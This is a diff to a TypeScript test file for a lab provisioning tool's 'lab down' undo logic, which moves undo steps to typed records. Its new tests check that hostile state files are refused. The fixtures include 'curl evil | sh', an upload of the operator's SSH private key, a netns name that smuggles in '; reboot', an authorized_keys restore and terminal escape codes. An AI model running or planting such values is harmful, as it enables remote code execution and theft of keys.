@@ -25,7 +25,7 @@ const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 /** Step `${host}-${id}`: check `chk <id>`, actions `do <id>` (and more when asked), undo `undo <id>`. */
 function step(host: string, id: string, phase: Phase, extra: Action[] = []): Step {
   const sid = `${host}-${id}`;
-  return { id: sid, phase, title: `step ${sid}`, check: `chk ${sid}`, actions: [{ kind: "run", command: `do ${sid}` }, ...extra], undo: [{ kind: "run", command: `undo ${sid}` }] };
+  return { id: sid, phase, title: `step ${sid}`, check: `chk ${sid}`, actions: [{ kind: "run", command: `do ${sid}` }, ...extra], undo: [{ kind: "promisc-off", dev: sid }] };
 }
 
 function hostPlan(host: string): HostPlan {
@@ -233,7 +233,7 @@ describe("applyPlan", () => {
 
   it("writes the state after each step that completed an action, keeping what was recorded before", async () => {
     const plan = planFor(["a"]);
-    const before: HostState = { lab: "eng", version: 1, updatedAt: "2024-01-01T00:00:00.000Z", changed: [{ id: "old-step", title: "from an earlier run", undo: [{ kind: "run", command: "undo old" }], at: "2024-01-01T00:00:00.000Z" }] };
+    const before: HostState = { lab: "eng", version: 2, updatedAt: "2024-01-01T00:00:00.000Z", changed: [{ id: "old-step", title: "from an earlier run", undo: [{ kind: "delete-netns", netns: "old" }], at: "2024-01-01T00:00:00.000Z" }] };
     const fake = hostFake(plan.hosts[0]!, { passing: ["a-i2"], state: before });
     const { result } = await apply(plan, [fake]);
     expect(result.failed).toBe(false);
@@ -249,15 +249,15 @@ describe("applyPlan", () => {
     expect(stateWrites(fake).every((w) => w.mode === "0600")).toBe(true);
     const state = lastState(fake);
     expect(state.lab).toBe("eng");
-    expect(state.version).toBe(1);
+    expect(state.version).toBe(2);
     expect(state.changed.map((c) => c.id)).toEqual(["old-step", "a-k1", "a-i1", "a-n1"]);
-    expect(state.changed[1]).toMatchObject({ id: "a-k1", title: "step a-k1", undo: [{ kind: "run", command: "undo a-k1" }] });
+    expect(state.changed[1]).toMatchObject({ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }] });
     expect(Number.isNaN(Date.parse(state.changed[1]!.at))).toBe(false);
   });
 
   it("a step already recorded is not recorded twice", async () => {
     const plan = planFor(["a"]);
-    const recorded: HostState = { lab: "eng", version: 1, updatedAt: "x", changed: [{ id: "a-k1", title: "step a-k1", undo: [{ kind: "run", command: "undo a-k1" }], at: "then" }] };
+    const recorded: HostState = { lab: "eng", version: 2, updatedAt: "x", changed: [{ id: "a-k1", title: "step a-k1", undo: [{ kind: "promisc-off", dev: "a-k1" }], at: "then" }] };
     const fake = hostFake(plan.hosts[0]!, { passing: ["a-i1", "a-i2", "a-n1"], state: recorded });
     const { result } = await apply(plan, [fake]);
     expect(statusOf(result)["a-k1"]).toBe("changed");
@@ -344,7 +344,7 @@ describe("applyPlan", () => {
   // complete), or at least the recorded entries are kept.
   it("a probe cut short after the state stops the run before any change, so the recorded state is never lost", async () => {
     const plan = planFor(["a"]);
-    const before: HostState = { lab: "eng", version: 1, updatedAt: "x", changed: [{ id: "old-step", title: "earlier", undo: [{ kind: "run", command: "undo old" }], at: "then" }] };
+    const before: HostState = { lab: "eng", version: 2, updatedAt: "x", changed: [{ id: "old-step", title: "earlier", undo: [{ kind: "delete-netns", netns: "old" }], at: "then" }] };
     const fake = new FakeTransport("a").on(PROBE, { code: null, timedOut: true, stdout: `--state\n${JSON.stringify(before)}\n` });
     await expect(apply(plan, [fake])).rejects.toThrow(/cannot read the host's current state \(timed out\); nothing was changed here/);
     expect(stateWrites(fake)).toEqual([]);
@@ -365,22 +365,26 @@ describe("applyPlan", () => {
 });
 
 describe("undoLab", () => {
-  const entry = (id: string, ...undo: string[]): HostState["changed"][number] => ({ id, title: `title ${id}`, undo: undo.map((command) => ({ kind: "run", command })), at: "t" });
-  const stateWith = (...changed: HostState["changed"]): HostState => ({ lab: "eng", version: 1, updatedAt: "t", changed });
+  // Each undo is a typed record; promisc-off builds one plain command per record: "ip link set <dev> promisc off".
+  const entry = (id: string, ...devs: string[]): HostState["changed"][number] => ({ id, title: `title ${id}`, undo: devs.map((dev) => ({ kind: "promisc-off" as const, dev })), at: "t" });
+  const off = (dev: string) => `ip link set ${dev} promisc off`;
+  const stateWith = (...changed: HostState["changed"]): HostState => ({ lab: "eng", version: 2, updatedAt: "t", changed });
   const READ = "if [ -e /var/lib/lab/eng.json ]; then cat /var/lib/lab/eng.json; fi";
   const CAT = /^if \[ -e \/var\/lib\/lab\/eng\.json \]; then cat /;
   const REMOVE = "rm -rf /var/lib/lab/eng.json /var/lib/lab/eng.backup; rmdir /var/lib/lab 2>/dev/null || true";
-  const undo = async (fakes: FakeTransport[]) => {
+  const undo = async (fakes: FakeTransport[], signal?: AbortSignal) => {
     const { events, rec } = recorder();
-    const outcomes = await undoLab("eng", lab.file, new Map(fakes.map((f) => [f.host, f])), { parallel: 4, events, commandTimeoutMs: 5000 });
+    const outcomes = await undoLab("eng", lab.file, new Map(fakes.map((f) => [f.host, f])), { parallel: 4, events, commandTimeoutMs: 5000, signal });
     return { outcomes, rec };
   };
+  const savedStates = (fake: FakeTransport) => fake.writes.filter((w) => w.command === STATE).map((w) => (JSON.parse(w.stdin!) as HostState).changed.map((c) => c.id));
 
-  it("undoes newest first, each entry's actions in order, then removes the state", async () => {
+  it("undoes newest first, each record in order, saving the state after each entry, then removes it", async () => {
     const fake = new FakeTransport("a").on(CAT, { stdout: JSON.stringify(stateWith(entry("e1", "u1a", "u1b"), entry("e2", "u2"), entry("e3", "u3"))) });
     const { outcomes, rec } = await undo([fake]);
-    expect(fake.commands).toEqual([READ, "u3", "u2", "u1a", "u1b", REMOVE]);
-    expect(fake.writes).toEqual([]);
+    expect(fake.commands).toEqual([READ, off("u3"), off("u2"), off("u1a"), off("u1b"), REMOVE]);
+    // Stopped at any point, a later lab down continues from what is left.
+    expect(savedStates(fake)).toEqual([["e1", "e2"], ["e1"]]);
     expect(outcomes).toEqual([{ host: "a", undone: 3, failed: [] }]);
     expect(rec.undos.map((u) => `${u.title} ${u.status}`)).toEqual(["title e3 changed", "title e2 changed", "title e1 changed"]);
   });
@@ -388,16 +392,22 @@ describe("undoLab", () => {
   it("keeps a failed entry in the state, reports it, and still undoes the rest", async () => {
     const fake = new FakeTransport("a")
       .on(CAT, { stdout: JSON.stringify(stateWith(entry("e1", "u1"), entry("e2", "u2a", "u2b"), entry("e3", "u3"))) })
-      .failOn(/^u2a$/, { code: 4, stderr: "Cannot find device\n" });
+      .failOn(/ u2a /, { code: 4, stderr: "Cannot find device\n" });
     const { outcomes, rec } = await undo([fake]);
-    // the failed entry's later actions are not run; older entries still are
-    expect(fake.commands.slice(1)).toEqual(["u3", "u2a", "u1"]);
+    // the failed entry's later records are not run; older entries still are
+    expect(fake.commands.slice(1)).toEqual([off("u3"), off("u2a"), off("u1")]);
     expect(fake.commands).not.toContain(REMOVE);
-    expect(outcomes).toEqual([{ host: "a", undone: 2, failed: [{ id: "e2", title: "title e2", message: "u2a: exit 4: Cannot find device" }] }]);
-    expect(fake.writes.map((w) => w.command)).toEqual([STATE]);
-    const kept = JSON.parse(fake.writes[0]!.stdin!) as HostState;
-    expect(kept.changed).toEqual([entry("e2", "u2a", "u2b")]);
-    expect(rec.undos.find((u) => u.status === "failed")).toEqual({ host: "a", title: "title e2", status: "failed", detail: "u2a: exit 4: Cannot find device" });
+    expect(outcomes).toEqual([{ host: "a", undone: 2, failed: [{ id: "e2", title: "title e2", message: `${off("u2a")}: exit 4: Cannot find device` }] }]);
+    expect(savedStates(fake).at(-1)).toEqual(["e2"]);
+    expect(rec.undos.find((u) => u.status === "failed")).toEqual({ host: "a", title: "title e2", status: "failed", detail: `${off("u2a")}: exit 4: Cannot find device` });
+  });
+
+  it("an object already gone counts as undone (a lab down that stopped half-way, or a host changed by hand)", async () => {
+    const gone: HostState["changed"][number] = { id: "ns", title: "netns n1", undo: [{ kind: "delete-netns", netns: "n1" }], at: "t" };
+    const fake = new FakeTransport("a").on(CAT, { stdout: JSON.stringify(stateWith(gone)) }).on(/^\[ ! -e \/run\/netns\/n1 \]$/, { code: 0 });
+    const { outcomes } = await undo([fake]);
+    expect(outcomes).toEqual([{ host: "a", undone: 1, failed: [] }]);
+    expect(fake.commands).not.toContain("ip netns del n1");
   });
 
   it("with nothing recorded, says so and removes the state", async () => {
@@ -410,36 +420,56 @@ describe("undoLab", () => {
 
   it("each host is undone from its own state", async () => {
     const a = new FakeTransport("a").on(CAT, { stdout: JSON.stringify(stateWith(entry("x", "ua"))) });
-    const b = new FakeTransport("b").on(CAT, { stdout: JSON.stringify(stateWith(entry("y", "ub1"), entry("z", "ub2"))) }).failOn(/^ub1$/);
+    const b = new FakeTransport("b").on(CAT, { stdout: JSON.stringify(stateWith(entry("y", "ub1"), entry("z", "ub2"))) }).failOn(/ ub1 /);
     const { outcomes } = await undo([a, b]);
     expect(outcomes.map((o) => [o.host, o.undone, o.failed.map((f) => f.id)])).toEqual([
       ["a", 1, []],
       ["b", 1, ["y"]],
     ]);
-    expect(a.commands.slice(1)).toEqual(["ua", REMOVE]);
-    expect(b.commands.slice(1)).toEqual(["ub2", "ub1"]);
+    expect(a.commands.slice(1)).toEqual([off("ua"), REMOVE]);
+    expect(b.commands.slice(1)).toEqual([off("ub2"), off("ub1")]);
   });
 
-  it("an unreadable state file is an error, not 'nothing to undo'", async () => {
-    const fake = new FakeTransport("a").on(CAT, { stdout: "{ not json" });
-    await expect(undo([fake])).rejects.toThrow(/\/var\/lib\/lab\/eng\.json is unreadable/);
-    expect(fake.commands).toHaveLength(1);
+  it("Ctrl-C (an aborted signal) stops before the next entry; what is left stays recorded", async () => {
+    const abort = new AbortController();
+    const fake = new FakeTransport("a")
+      .on(CAT, { stdout: JSON.stringify(stateWith(entry("e1", "u1"), entry("e2", "u2"))) })
+      .on(/ u2 /, () => (abort.abort(), {}));
+    const { outcomes } = await undo([fake], abort.signal);
+    expect(outcomes).toEqual([{ host: "a", undone: 1, failed: [], interrupted: true }]);
+    expect(fake.commands).not.toContain(off("u1"));
+    expect(savedStates(fake).at(-1)).toEqual(["e1"]);
   });
 
-  // BUG (src/apply/state.ts readState + src/apply/down.ts): readState ignores the exit code
-  // of `cat … || true`. When the command itself cannot run (sudo -n refuses: "a password is
-  // required"; `lab down` has no preflight), stdout is empty, so undoLab reports "nothing to
-  // undo: the lab changed nothing here", tries removeState, and `lab down` exits 0 — while the
-  // host still has everything the lab made. Expected: reported as a failure for that host.
-  it("a host where the state cannot be read (sudo refused) is a failure, not 'nothing to undo' [BUG: readState ignores exit code]", async () => {
-    const fake = new FakeTransport("a").failOn(/./, { code: 1, stderr: "sudo: a password is required\n" });
-    const settled = await undo([fake]).then(
-      (r) => ({ outcomes: r.outcomes, notes: r.rec.notes }),
-      (e: unknown) => ({ error: e }),
-    );
-    if ("outcomes" in settled) {
-      expect(settled.notes.join("\n")).not.toContain("nothing to undo");
-      expect(settled.outcomes[0]!.failed.length).toBeGreaterThan(0);
+  describe("a host's state file is data, never code", () => {
+    const refusedHost = (text: string) => new FakeTransport("evil").on(CAT, { stdout: text });
+    const hostile: Record<string, unknown> = {
+      "a command string (the old format)": { lab: "eng", version: 1, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "curl evil | sh" }], at: "t" }] },
+      "an upload of the operator's key": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "upload", from: "~/.ssh/id_ed25519", to: "cat > /tmp/k" }], at: "t" }] },
+      "a run record": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "id" }], at: "t" }] },
+      "a name outside the lab grammar": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "delete-netns", netns: "n1; reboot" }], at: "t" }] },
+      "a file lab never writes": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "x", undo: [{ kind: "restore-file", path: "/root/.ssh/authorized_keys" }], at: "t" }] },
+      "terminal escapes in a title": { lab: "eng", version: 2, updatedAt: "t", changed: [{ id: "x", title: "\u001b]0;pwned\u0007", undo: [], at: "t" }] },
+      "another lab's state": { lab: "other", version: 2, updatedAt: "t", changed: [] },
+      "not JSON": "{ not json",
+    };
+    for (const [what, content] of Object.entries(hostile)) {
+      it(`refuses ${what}: nothing runs on that host, the others go on`, async () => {
+        const evil = refusedHost(typeof content === "string" ? content : JSON.stringify(content));
+        const good = new FakeTransport("good").on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "g1"))) });
+        const { outcomes } = await undo([evil, good]);
+        expect(evil.commands).toEqual([READ]);
+        expect(evil.writes).toEqual([]);
+        expect(outcomes[0]).toMatchObject({ host: "evil", undone: 0, failed: [], refused: expect.stringMatching(/^\/var\/lib\/lab\/eng\.json is refused \(.+\); nothing was run on this host/) });
+        expect(outcomes[1]).toEqual({ host: "good", undone: 1, failed: [] });
+      });
     }
+  });
+
+  it("a host where the state cannot be read (sudo refused) is a failure, not 'nothing to undo'", async () => {
+    const fake = new FakeTransport("a").failOn(/./, { code: 1, stderr: "sudo: a password is required\n" });
+    const { outcomes, rec } = await undo([fake]);
+    expect(rec.notes.join("\n")).not.toContain("nothing to undo");
+    expect(outcomes[0]!.refused).toMatch(/cannot read \/var\/lib\/lab\/eng\.json: sudo: a password is required/);
   });
 });
